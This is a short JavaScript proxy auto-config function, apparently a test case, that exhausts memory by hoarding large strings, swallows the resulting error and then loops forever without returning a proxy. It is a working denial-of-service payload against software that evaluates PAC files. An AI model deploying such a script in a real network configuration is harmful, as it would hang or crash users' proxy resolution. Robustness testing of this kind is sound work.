// Eats memory, swallows the error, and then spins.
function FindProxyForURL(url, host) {
    var hoard = [];
    try {
        for (;;)
            hoard.push(new Array(65536).join("y") + hoard.length);
    } catch (e) {
        hoard = null;
        for (;;) {}
    }
}
